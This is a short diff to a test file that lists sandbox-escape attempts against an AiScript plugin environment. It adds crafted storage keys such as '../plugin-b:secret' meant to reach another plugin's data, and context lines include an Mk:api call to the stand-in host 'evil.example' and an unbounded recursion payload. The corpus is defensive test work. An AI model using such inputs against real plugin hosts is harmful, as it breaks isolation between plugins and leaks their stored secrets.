@@ -46,6 +46,8 @@ export const escapeCorpus: readonly Attempt[] = [
   ai('Mk:api with a full URL', 'Mk:api("https://evil.example/api/i", {})'),
   ai('Mk:api with a protocol-relative ..', 'Mk:api("i/..//evil", {})', '0.19'),
   ai("other plugins' storage", 'Mk:save("secret", "LEAK")'),
+  // Keys are prefixed with the plugin's own install id: a crafted key cannot name another's.
+  ai("other plugins' storage via a crafted key", 'Mk:save("../plugin-b:secret", "LEAK")\nMk:save(":plugin-b:secret", "LEAK")', '0.19'),
   // AiScript calls are asynchronous, so unbounded recursion grows the heap rather than the
   // stack: like an endless loop, it is stopped from outside.
   ai('deep recursion', '@f(n) { f(n + 1) }\nf(0)\n<: "LEAK"', '1', true),
